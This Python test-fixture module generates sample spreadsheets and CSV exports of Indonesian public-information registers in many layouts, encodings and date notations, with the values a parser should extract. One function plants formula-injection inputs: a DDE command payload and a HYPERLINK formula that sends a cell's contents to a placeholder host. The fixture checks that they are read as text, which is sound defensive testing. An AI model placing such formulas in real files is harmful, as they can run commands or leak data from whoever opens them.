"""Registers with one header and one entry a row: exports of applications, and files as text."""

import datetime

from .entries import (
    ALWAYS,
    BUDGET_2024,
    EXEMPT,
    GROUND,
    IMMEDIATE,
    PERIODIC,
    PUBLIC,
    REALISATION,
    RECORDS,
    SITE,
    STRATEGY,
    WARNING,
    read,
    url,
)
from .writing import Book, OpenDocument, Text

WORDS = {"hardcopy": "Cetak", "softcopy": "Digital", "online": "Daring"}
SPELLINGS = {
    "berkala": [
        "Berkala", "BERKALA ", "wajib berkala", "Informasi Berkala", "1. Berkala", "secara-berkala",
    ],
    "serta_merta": ["Serta Merta", "serta-merta", "SERTAMERTA"],
    "setiap_saat": ["Setiap Saat", "Setiap-saat", "tersedia setiap  saat"],
    "dikecualikan": ["Dikecualikan", "Informasi yg DIKECUALIKAN"],
}  # fmt: skip


def spelled(entry, number):
    words = SPELLINGS[entry.category]
    return words[number % len(words)]


def an_application_of_a_district():
    """Columns of a web application, copied: links behind "download", a note about nothing below."""
    book = Book("kecamatan.xlsx").add_sheet("overview")
    book.put(
        "Judul Informasi ", "Ringkasan Isi Informasi", "Pejabat Yang Menguasai Informasi",
        "Penanggungjawab Pembuatan/Penerbitan Informasi", "Waktu Pembuatan/Penerbitan Informasi",
        "Jenis Informasi", "Bentuk Informasi", "Jangka Waktu Penyimpanan", "Dokumen",
    )  # fmt: skip
    for number, entry in enumerate(PUBLIC):
        made = entry.date or entry.years[0]
        if entry.years[0] != entry.years[1]:
            made = f"{entry.years[0]}-{entry.years[1]}"
        row = book.put(
            entry.title, f"Memuat {entry.title.lower()}.", entry.holder_unit, entry.responsible_unit,
            made, spelled(entry, number), ", ".join(WORDS[f] for f in entry.form), entry.retention,
            "download",
        )  # fmt: skip
        book.link(9, url(entry))
        years = (entry.day.year,) * 2 if entry.date else entry.years
        book.expect(
            read(entry, "overview", row, section=None, years=years, urls=(url(entry),),
                 summary=f"Memuat {entry.title.lower()}.")
        )  # fmt: skip
    book.put("Menampilkan 1 sampai 11 dari 11 data")
    return book


def english_headers_in_another_order():
    """Tab-separated UTF-16, as Excel's "Unicode text" is; the columns stand the other way round."""
    text = Text("register.txt", delimiter="\t", encoding="utf-16")
    text.put(
        "Document URL", "Retention period", "Available in", "Date of issue", "Custodian",
        "Responsible unit", "Category", "Information title", "No",
    )  # fmt: skip
    spelled_in_english = {
        "berkala": "Periodic", "serta_merta": "Immediate", "setiap_saat": "Always available",
        "dikecualikan": "Exempted",
    }  # fmt: skip
    for number, entry in enumerate([*PUBLIC, RECORDS], start=1):
        made = (
            entry.day.strftime("%B %-d, %Y")
            if entry.date
            else f"{entry.years[0]} to {entry.years[1]}"
        )
        words = {"hardcopy": "printed", "softcopy": "electronic", "online": "website"}
        row = text.put(
            url(entry), entry.retention, " & ".join(words[f] for f in entry.form), made,
            entry.holder_unit, entry.responsible_unit, spelled_in_english[entry.category],
            entry.title, number,
        )  # fmt: skip
        urls = () if entry is RECORDS else (url(entry),)
        years = (entry.day.year,) * 2 if entry.date else entry.years
        text.expect(read(entry, None, row, section=None, years=years, urls=urls, legal_basis=None))
    return text


def pipes_with_headings_between():
    """UTF-8 with a mark, a title above the header, headings as rows of their own, a total below."""
    text = Text("pipa.csv", delimiter="|", encoding="utf-8-sig")
    text.put("DAFTAR INFORMASI PUBLIK DINAS CONTOH – TAHUN 2024", *[""] * 6)
    text.put(*[""] * 7)
    text.put("NO.", "NAMA DOKUMEN", "TAHUN", "BENTUK", "", "", "MASA SIMPAN")
    text.put("", "", "", "Cetak", "Rekam", "Online", "")
    last = None
    for number, entry in enumerate([*PERIODIC, *ALWAYS], start=1):
        if last is None or last.category != entry.category:
            label = {"berkala": "INFORMASI BERKALA", "setiap_saat": "INFORMASI SETIAP SAAT"}
            text.put("I." if last is None else "II.", label[entry.category], *[""] * 5)
        if last is None or last.section != entry.section:
            text.put("", entry.section.upper(), *[""] * 5)
        forms = ["v" if form in entry.form else "-" for form in ("hardcopy", "softcopy", "online")]
        years = f"{entry.years[0]}/{entry.years[1]}" if entry is STRATEGY else entry.years[0]
        row = text.put(number, entry.title, years, *forms, entry.retention)
        text.expect(
            read(entry, None, row, section=entry.section.upper(), date=None, responsible_unit=None,
                 holder_unit=None)
        )  # fmt: skip
        last = entry
    text.put("TOTAL", "9 dokumen", *[""] * 5)
    text.put("Catatan: daftar ini diperbarui setiap semester", *[""] * 6)
    return text


def semicolons_in_windows_1252():
    """What Excel saves as CSV here; it tells its delimiter itself."""
    text = Text("ekspor.csv", delimiter=";", encoding="cp1252", begin="sep=;\r\n")
    text.put("ID", "Jenis", "Judul", "Deskripsi", "Tgl", "Unit", "Dasar Pengecualian", "Email")
    entries = [*PERIODIC[:3], *IMMEDIATE, *EXEMPT]
    for number, entry in enumerate(entries):
        made = entry.day.strftime("%d.%m.%Y") if entry.date else "–"
        row = text.put(
            f"DIP-{number:03}", spelled(entry, number), f"“{entry.title}” – edisi", "", made,
            entry.responsible_unit, entry.legal_basis or "-", "ppid@contoh.invalid",
        )  # fmt: skip
        years = (entry.day.year,) * 2 if entry.date else None
        text.expect(
            read(entry, None, row, title=f"“{entry.title}” – edisi", section=None, years=years,
                 holder_unit=entry.responsible_unit, responsible_unit=None, form=(), retention=None)
        )  # fmt: skip
    row = text.put("DIP-900", "Internal", "Catatan rapat", "", "", "Sekretariat", "", "")
    text.expect(
        read(RECORDS, None, row, category=None, title="Catatan rapat", years=None, retention=None,
             holder_unit="Sekretariat", responsible_unit=None, legal_basis=None)
    )  # fmt: skip
    text.put("DIP-000", *text.rows[1][1:])  # the same entry once more, under the same key
    text.put("DIP-901", "Berkala", "   ", "", "", "", "", "")
    text.put("", "", "", "", "", "", "", "")
    text.put("Jumlah", "", "", "", "", "", "", "8")
    return text


def a_sheet_for_every_year():
    """The sheets are years; beside them stand instructions, choices, a recap, and what is hidden."""
    book = Book("per_tahun.xlsx").add_sheet("Petunjuk Pengisian")
    book.put("PETUNJUK PENGISIAN", bold=True)
    book.put("1. Isi kolom Nama Informasi dengan judul dokumen.")
    book.put("No", "Nama Informasi", "Kategori")
    book.put(1, "Contoh: Rencana Kerja", "Berkala")
    for year, entries in ((2023, PERIODIC[:3]), (2024, IMMEDIATE)):
        book.add_sheet(str(year))
        book.put("No", "Nama Informasi", "Kategori", "Unit Pengolah Informasi", "Format")
        for number, entry in enumerate(entries, start=1):
            forms = "/".join(WORDS[f] for f in entry.form)
            row = book.put(number, entry.title, spelled(entry, number), "Sekretariat", forms)
            book.expect(
                read(entry, str(year), row, section=None, years=(year, year), date=None,
                     responsible_unit=None, holder_unit="Sekretariat", retention=None)
            )  # fmt: skip
        book.put(9, "Konsep yang belum disetujui", "Berkala", None, "Cetak")
        book.sheet.row_dimensions[book.row].hidden = True
    book.add_sheet("Rekap")
    book.put("Kategori", "Jumlah")
    book.put("Berkala", 3)
    book.add_sheet("Referensi")
    for word in ("Berkala", "Serta Merta", "Setiap Saat", "Cetak", "Digital"):
        book.put(word)
    book.add_sheet("Lama", sheet_state="hidden")
    book.put("No", "Nama Informasi", "Kategori")
    book.put(1, "Dokumen lama", "Berkala")
    return book


def years_as_columns():
    """One document a row, its editions in a column per year."""
    book = Book("matriks.xlsx").add_sheet("Informasi Berkala")
    top = book.put("No", "Jenis Dokumen", "Tahun", None, None, "Keterangan", bold=True)
    book.put(None, None, 2022, 2023, 2024, None, bold=True)
    book.merge(top, 3, top, 5)
    for number, title in enumerate(("Renja", "DPA", "LKjIP"), start=1):
        cells = [f"{SITE}/{title}-{year}.pdf" for year in (2022, 2023, 2024)]
        cells[2] = cells[2] if number > 1 else None
        row = book.put(number, title, *cells, None)
        urls = tuple(cell for cell in cells if cell)
        book.expect(
            read(WARNING, "Informasi Berkala", row, category="berkala", title=title, urls=urls, date=None,
                 years=(2022, 2023 if number == 1 else 2024), responsible_unit=None, holder_unit=None,
                 form=(), retention=None)
        )  # fmt: skip
    return book


def two_tables_side_by_side():
    """Landscape pages hold two tables, each under the name of its category."""
    book = Book("berdampingan.xlsx").add_sheet("Daftar")
    book.put("DAFTAR INFORMASI PUBLIK DINAS CONTOH", bold=True, merge=(1, 9))
    row = book.put("INFORMASI BERKALA", *[None] * 4, "INFORMASI SETIAP SAAT", skip=1, bold=True)
    book.merge(row, 1, row, 4)
    book.merge(row, 6, row, 9)
    heads = ("No", "Nama Informasi", "Tahun", "Unit yang Menguasai")
    book.put(*heads, None, *heads, bold=True)
    for number, left in enumerate(PERIODIC[:4], start=1):
        right = ALWAYS[number - 1] if number <= len(ALWAYS) else None
        cells = [number, left.title, left.years[0], left.holder_unit, None]
        cells += [number, right.title, right.years[0], right.holder_unit] if right else []
        row = book.put(*cells)
        for entry in filter(None, (left, right)):
            book.expect(
                read(entry, "Daftar", row, section=None, date=None, responsible_unit=None, form=(),
                     retention=None, years=(entry.years[0], entry.years[0]))
            )  # fmt: skip
    return book


def two_tables_one_below_the_other():
    """Public and exempt information on one sheet, with headers of their own and other columns."""
    book = Book("bertumpuk.xlsx").add_sheet("PPID")
    book.put("A. Daftar Informasi Berkala", bold=True)
    book.put("No", "Nama Informasi", "Bentuk", "Retensi", bold=True)
    for number, entry in enumerate(PERIODIC[:2], start=1):
        row = book.put(number, entry.title, "Hard & Soft File", entry.retention)
        book.expect(
            read(entry, "PPID", row, section=None, years=None, responsible_unit=None, holder_unit=None,
                 form=("hardcopy", "softcopy"))
        )  # fmt: skip
    book.put("B. Daftar Informasi yang Dikecualikan", bold=True, skip=2)
    book.put(
        "No", "Informasi", "Dasar Hukum Pengecualian", "Konsekuensi jika dibuka", "Jangka Waktu",
        bold=True,
    )  # fmt: skip
    for number, entry in enumerate(EXEMPT, start=1):
        row = book.put(number, entry.title, GROUND, "mengungkap rahasia pribadi", entry.retention)
        book.expect(read(entry, "PPID", row, years=None, responsible_unit=None, form=()))
    row = book.put(3, "Naskah uji konsekuensi", None, None, "30 tahun")
    book.expect(
        read(RECORDS, "PPID", row, title="Naskah uji konsekuensi", years=None, responsible_unit=None,
             legal_basis=None, retention="30 tahun")
    )  # fmt: skip
    return book


def made_with_libreoffice():
    """OpenDocument: merged cells, real dates, hidden rows, links in the text, a million blank rows."""
    book = OpenDocument("libre.ods")
    book.add_sheet("01. Informasi Berkala")
    book.put("Daftar Informasi Berkala", bold=True, wide=6)
    book.put("No", "Judul", "Penanggung Jawab", "Tanggal", "Format", "Unduh", bold=True)
    for number, entry in enumerate(PERIODIC, start=1):
        made = entry.day if entry.date else entry.years[0]
        forms = "; ".join(WORDS[f] for f in entry.form)
        maker = entry.responsible_unit if number != 2 else "sda"
        row = book.put(number, entry.title, maker, made, forms, ("Unduh", url(entry)))
        years = (entry.day.year,) * 2 if entry.date else entry.years
        book.expect(
            read(entry, "01. Informasi Berkala", row, section=None, years=years, holder_unit=None,
                 retention=None, urls=(url(entry),))
        )  # fmt: skip
    book.put(99, "Konsep", "Sekretariat", 2024, "Cetak", hidden=True)
    book.put(None, repeated=1_048_000)
    book.add_sheet("Arsip", style="hidden")
    book.put("Dokumen lama")
    return book


def numbers_that_are_dates():
    """Dates in every notation, and those that lost their format."""
    book = Book("tanggal.xlsx").add_sheet("Setiap Saat")
    book.put("No", "Nama Dokumen", "Tanggal Penetapan", bold=True)
    cases = [
        (datetime.date(2024, 3, 4), "2024-03-04", (2024, 2024)),
        (45355, "2024-03-04", (2024, 2024)),
        ("4 Maret 2024", "2024-03-04", (2024, 2024)),
        ("Senin, 4 Maret 2024", "2024-03-04", (2024, 2024)),
        ("Serang, 04-03-2024", "2024-03-04", (2024, 2024)),
        ("4/3/2024", "2024-03-04", (2024, 2024)),
        ("2024.03.04", "2024-03-04", (2024, 2024)),
        ("04 Mar 24", "2024-03-04", (2024, 2024)),
        ("Maret 2024", None, (2024, 2024)),
        ("Triwulan I Tahun 2024", None, (2024, 2024)),
        ("TA. 2023/2024", None, (2023, 2024)),
        ("2022 s/d 2024", None, (2022, 2024)),
        ("1 Januari - 31 Desember 2023", None, (2023, 2023)),
        ("2021, 2022 dan 2023", None, (2021, 2023)),
        ("Jakarta, 2025", None, (2025, 2025)),
        ("-", None, None),
        ("setiap hari kerja", None, None),
    ]
    for number, (made, date, years) in enumerate(cases, start=1):
        row = book.put(number, f"Dokumen ke-{number}", made)
        book.expect(
            read(STRATEGY, "Setiap Saat", row, title=f"Dokumen ke-{number}", section=None, date=date,
                 years=years, responsible_unit=None, holder_unit=None, form=(), retention=None)
        )  # fmt: skip
    return book


def formulas_and_their_like():
    """Formulas are text, written-out addresses are addresses, nothing is calculated."""
    book = Book("rumus.xlsx").add_sheet("Berkala")
    book.put("No", "Judul", "Uraian Singkat", "Tautan", "Tahun")
    plain = BUDGET_2024.like(
        section=None, date=None, responsible_unit=None, holder_unit=None, form=(), retention=None
    )
    row = book.put(
        1, "Renja", "=cmd|' /C calc'!A0", f'=HYPERLINK("{SITE}/renja.pdf","Unduh")', 2024
    )
    book.expect(
        read(plain, "Berkala", row, title="Renja", summary="=cmd|' /C calc'!A0",
             urls=(f"{SITE}/renja.pdf",))
    )  # fmt: skip
    row = book.put(
        2, "Renstra", "+62 254 000", '=HYPERLINK("https://x.invalid/?d="&C2,"klik")', 2024
    )
    book.expect(read(plain, "Berkala", row, title="Renstra", summary="+62 254 000"))
    row = book.put(3, "DPA", "@Sekretariat", f"{SITE}/dpa.pdf", 2024)
    book.cell(3).value = '=IF(1=1,"a","b")'  # a formula indeed, whose value nobody has saved
    book.expect(
        read(
            plain,
            "Berkala",
            row,
            title="DPA",
            summary='=IF(1=1,"a","b")',
            urls=(f"{SITE}/dpa.pdf",),
        )
    )
    return book


def made_in_two_places(title=REALISATION.title):
    """A header that goes on in the next row without merged cells; numbered sections."""
    text = Text("terpotong.csv", delimiter=",")
    text.put("No", "Ringkasan", "Pejabat yang", "Penanggung", "Waktu", "Bentuk", "Jangka Waktu")
    text.put("", "Isi Informasi", "Menguasai", "Jawab", "Pembuatan", "Informasi", "Penyimpanan")
    text.put("1", "2", "3", "4", "5", "6", "7")
    text.put("A", "INFORMASI BERKALA", "", "", "", "", "")
    text.put("1.", "Ringkasan Laporan Keuangan", "", "", "", "", "")
    row = text.put(
        "a.", title, "Sekretariat", "Subbagian Keuangan", "31 Juli 2023", "Softcopy", "10 tahun"
    )
    text.expect(read(REALISATION, None, row))
    row = text.put("b.", "Neraca", "Sekretariat", "Subbagian Keuangan", "2023", "Web", "10 tahun")
    text.expect(read(PERIODIC[5], None, row))
    return text


def abbreviations_with_a_legend():
    """Categories as letters that the foot of the table explains; numbers of two and three levels."""
    book = Book("singkatan.xlsx").add_sheet("DIP 2024")
    book.put("Kode", "Uraian Informasi", "Klas.", "Unit Kerja", bold=True)
    letters = {"berkala": "B", "serta_merta": "SM", "setiap_saat": "SS", "dikecualikan": "K"}
    place, number, section = 0, 0, None
    for entry in [*PERIODIC, *ALWAYS, RECORDS]:
        if entry.section and entry.section != section:
            place, number, section = place + 1, 0, entry.section
            book.put(f"1.{place}", section)
        number += 1
        code = f"1.{place}.{number}"
        row = book.put(code, entry.title, letters[entry.category], entry.holder_unit)
        named = {STRATEGY: (2023, 2026), ALWAYS[1]: (2024, 2024), BUDGET_2024: (2024, 2024)}
        book.expect(
            read(entry, "DIP 2024", row, date=None, responsible_unit=None, form=(), retention=None,
                 section=section, years=named.get(entry, (2024, 2024)), legal_basis=None)
        )  # fmt: skip
    book.put(
        "Keterangan: B = Berkala, SM = Serta Merta, SS = Setiap Saat, K = Dikecualikan", skip=1
    )
    return book


def typed_in_haste():
    """An online spreadsheet, exported: categories misspelt, a header nobody froze, tick boxes."""
    text = Text("lembar_daring.csv", delimiter=",", encoding="utf-8")
    text.put(
        "Timestamp", "Judul Dokumen", "Kategori Informasi", "Hardcopy", "Softcopy", "Link Dokumen"
    )
    spelt = ("Bekala", "berkla", "Informasi Berkalaa", "BERKALA", "Serta Mertaa", "Setiap Sat")
    entries = [*PERIODIC[:4], IMMEDIATE[0], ALWAYS[1]]
    for number, (entry, words) in enumerate(zip(entries, spelt, strict=True), start=1):
        row = text.put(
            f"{number}/2/2024 08:15:00", entry.title, words,
            *("TRUE" if form in entry.form else "FALSE" for form in ("hardcopy", "softcopy")),
            url(entry),
        )  # fmt: skip
        forms = tuple(form for form in entry.form if form != "online")
        years = (2024, 2024) if entry in (PERIODIC[3], ALWAYS[1]) else None
        text.expect(
            read(entry, None, row, section=None, date=None, years=years, form=forms,
                 responsible_unit=None, holder_unit=None, retention=None, urls=(url(entry),))
        )  # fmt: skip
    return text


SAMPLES = [
    an_application_of_a_district,
    english_headers_in_another_order,
    pipes_with_headings_between,
    semicolons_in_windows_1252,
    a_sheet_for_every_year,
    years_as_columns,
    two_tables_side_by_side,
    two_tables_one_below_the_other,
    made_with_libreoffice,
    numbers_that_are_dates,
    formulas_and_their_like,
    made_in_two_places,
    abbreviations_with_a_legend,
    typed_in_haste,
]
